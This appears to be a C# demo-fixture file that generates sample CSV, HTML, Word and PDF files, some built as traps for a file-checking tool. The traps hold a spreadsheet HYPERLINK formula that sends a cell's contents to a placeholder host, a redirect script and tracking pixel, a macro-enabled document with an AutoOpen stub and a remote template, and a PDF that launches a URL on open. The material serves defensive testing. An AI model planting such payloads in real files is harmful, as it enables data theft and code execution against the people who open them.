using System.Globalization;
using System.IO.Compression;
using System.Text;

namespace Sekisho.Crossing.Demo;

/// <summary>Files that the made-up town's people hand over: real ones, with what real ones hide.</summary>
internal static class DemoFiles
{
    private const string Main = "http://schemas.openxmlformats.org/wordprocessingml/2006/main", Relations = "http://schemas.openxmlformats.org/officeDocument/2006/relationships", Package = "http://schemas.openxmlformats.org/package/2006";

    public static byte[] Text(string text) => Encoding.UTF8.GetBytes(text);

    /// <summary>A list one cell of which a spreadsheet would run.</summary>
    public static byte[] Csv(string heading, IEnumerable<string> lines, bool isTrap) =>
        Text(heading + "\r\n" + string.Concat(lines.Select(l => l + "\r\n")) + (isTrap ? "合計,=HYPERLINK(\"http://shiokaze.invalid/?\"&B1;\"詳しくはこちら\")\r\n" : ""));

    /// <summary>A page with a script, an event and a picture that tells its sender who reads it.</summary>
    public static byte[] Page(string title) => Text($"""
        <!doctype html><html lang="ja"><head><meta charset="utf-8"><title>{title}</title><script>document.location='http://shiokaze.invalid/'</script></head>
        <body onload="start()"><h1>{title}</h1><p>別紙のとおり通知します。</p><img src="http://shiokaze.invalid/t.gif" width="1" height="1"></body></html>
        """);

    /// <summary>A document; with macros, a template from elsewhere and its author's name where it is a trap.</summary>
    public static byte[] Document(string title, bool isTrap)
    {
        using var bytes = new MemoryStream();
        using (var zip = new ZipArchive(bytes, ZipArchiveMode.Create, leaveOpen: true))
        {
            var kind = isTrap ? "application/vnd.ms-word.document.macroEnabled.main+xml" : "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml";
            Put(zip, "[Content_Types].xml", $"""
                <Types xmlns="{Package}/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/><Override PartName="/word/document.xml" ContentType="{kind}"/>{(isTrap ? "<Override PartName=\"/word/settings.xml\" ContentType=\"application/vnd.openxmlformats-officedocument.wordprocessingml.settings+xml\"/>" : "")}</Types>
                """);
            Put(zip, "_rels/.rels", $"""<Relationships xmlns="{Package}/relationships"><Relationship Id="rId1" Type="{Relations}/officeDocument" Target="word/document.xml"/></Relationships>""");
            Put(zip, "word/document.xml", $"""<w:document xmlns:w="{Main}"><w:body><w:p><w:r><w:t>{title}</w:t></w:r></w:p><w:p><w:r><w:t>標記の件について、次のとおり回答します。</w:t></w:r></w:p></w:body></w:document>""");
            if (isTrap)
            {
                Put(zip, "word/_rels/document.xml.rels", $"""<Relationships xmlns="{Package}/relationships"><Relationship Id="rId1" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" Target="vbaProject.bin"/><Relationship Id="rId2" Type="{Relations}/settings" Target="settings.xml"/></Relationships>""");
                Put(zip, "word/_rels/settings.xml.rels", $"""<Relationships xmlns="{Package}/relationships"><Relationship Id="rId1" Type="{Relations}/attachedTemplate" Target="http://shiokaze.invalid/t.dotm" TargetMode="External"/></Relationships>""");
                Put(zip, "word/settings.xml", $"""<w:settings xmlns:w="{Main}" xmlns:r="{Relations}"><w:attachedTemplate r:id="rId1"/></w:settings>""");
                Put(zip, "word/vbaProject.bin", "Sub AutoOpen()");
            }
        }
        return bytes.ToArray();
    }

    /// <summary>A page that starts something when it is opened.</summary>
    public static byte[] Pdf(string title, bool isTrap)
    {
        var content = $"BT /F1 18 Tf 72 770 Td ({title}) Tj ET";
        string[] objects =
        [
            $"<< /Type /Catalog /Pages 2 0 R{(isTrap ? " /OpenAction << /S /JavaScript /JS (app.launchURL\\('http://shiokaze.invalid/'\\)) >>" : "")} >>", "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources << /Font << /F1 5 0 R >> >> /Contents 4 0 R >>", $"<< /Length {content.Length} >>\nstream\n{content}\nendstream", "<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
        ];
        var text = new StringBuilder("%PDF-1.7\n");
        var offsets = new List<int>();
        for (var i = 0; i < objects.Length; i++)
        {
            offsets.Add(text.Length);
            text.Append(CultureInfo.InvariantCulture, $"{i + 1} 0 obj\n{objects[i]}\nendobj\n");
        }
        var table = text.Length;
        text.Append(CultureInfo.InvariantCulture, $"xref\n0 {objects.Length + 1}\n0000000000 65535 f \n");
        foreach (var offset in offsets) text.Append(CultureInfo.InvariantCulture, $"{offset:0000000000} 00000 n \n");
        text.Append(CultureInfo.InvariantCulture, $"trailer\n<< /Size {objects.Length + 1} /Root 1 0 R >>\nstartxref\n{table}\n%%EOF\n");
        return Encoding.ASCII.GetBytes(text.ToString());
    }

    public static byte[] Zip(params IReadOnlyList<(string Name, byte[] Content)> files)
    {
        using var bytes = new MemoryStream();
        using (var zip = new ZipArchive(bytes, ZipArchiveMode.Create, leaveOpen: true))
            foreach (var (name, content) in files)
            {
                using var entry = zip.CreateEntry(name).Open();
                entry.Write(content);
            }
        return bytes.ToArray();
    }

    /// <summary>A drawing that no program here can take apart.</summary>
    public static byte[] Drawing() => [.. "JwwData."u8, .. new byte[4000]];

    /// <summary>A program under the name of a picture.</summary>
    public static byte[] Program() => [.. "MZ"u8, .. new byte[2000]];

    private static void Put(ZipArchive zip, string name, string text)
    {
        using var entry = zip.CreateEntry(name).Open();
        entry.Write(Encoding.UTF8.GetBytes(text));
    }
}
